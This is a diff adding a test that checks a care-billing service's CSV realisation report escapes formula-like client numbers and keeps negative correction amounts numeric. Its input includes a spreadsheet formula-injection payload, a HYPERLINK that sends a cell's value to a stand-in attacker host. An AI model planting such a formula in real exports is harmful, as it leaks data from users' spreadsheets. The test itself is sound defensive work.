@@ -3,6 +3,8 @@ deletions and approvals, each paid exactly once and to the cent."""
 
 from __future__ import annotations
 
+import csv
+import io
 from typing import Any
 
 T = "kouvola"
@@ -296,3 +298,26 @@ async def test_realisation_report_per_client_and_producer_part_as_csv(harness: A
         f"/v1/tenants/{T}/reports/realisation", params={"from": "2016-03", "to": "2016-02"}, headers=h.admin
     )
     assert bad.status_code == 422 and bad.json()["errors"][0]["field"] == "to"
+
+
+async def test_realisation_csv_shows_a_formula_client_number_as_text_and_a_credit_as_a_number(harness: Any) -> None:
+    """A client number typed as =HYPERLINK(...) must not become a live formula in the officer's
+    spreadsheet; a correction's negative amount stays a number the officer can sum."""
+    h = harness
+    await h.seed()
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
+    await h.event("e-1", "2016-02-01", "2016-02-29", client_ref=formula)
+    await h.event("e-2", "2016-02-01", "2016-02-10", client_ref="@SUM(A1:A9)")
+    await h.run("2016-02")
+    await h.event("e-1", "2016-02-01", "2016-02-10", client_ref=formula, revision=2, corrected=True)
+    params = {"from": "2016-02", "to": "2016-02", "format": "csv"}
+    report = await h.client.get(f"/v1/tenants/{T}/reports/realisation", params=params, headers=h.admin)
+    rows = list(csv.reader(io.StringIO(report.text)))
+    assert rows[1:] == [
+        ["p-paivansade", "'" + formula, "hoito", "Hoito ja hoiva", "29", "2610.00", "290.00", "-1710.00", "0"],
+        ["p-paivansade", "'@SUM(A1:A9)", "hoito", "Hoito ja hoiva", "10", "900.00", "100.00", "0.00", "0"],
+    ]  # -1710.00 (19 days fewer x 90.00, not yet settled) is a number, left as it is
+    as_json = await h.client.get(
+        f"/v1/tenants/{T}/reports/realisation", params={"from": "2016-02", "to": "2016-02"}, headers=h.admin
+    )
+    assert [i["client_ref"] for i in as_json.json()["items"]] == [formula, "@SUM(A1:A9)"]  # the data is unchanged
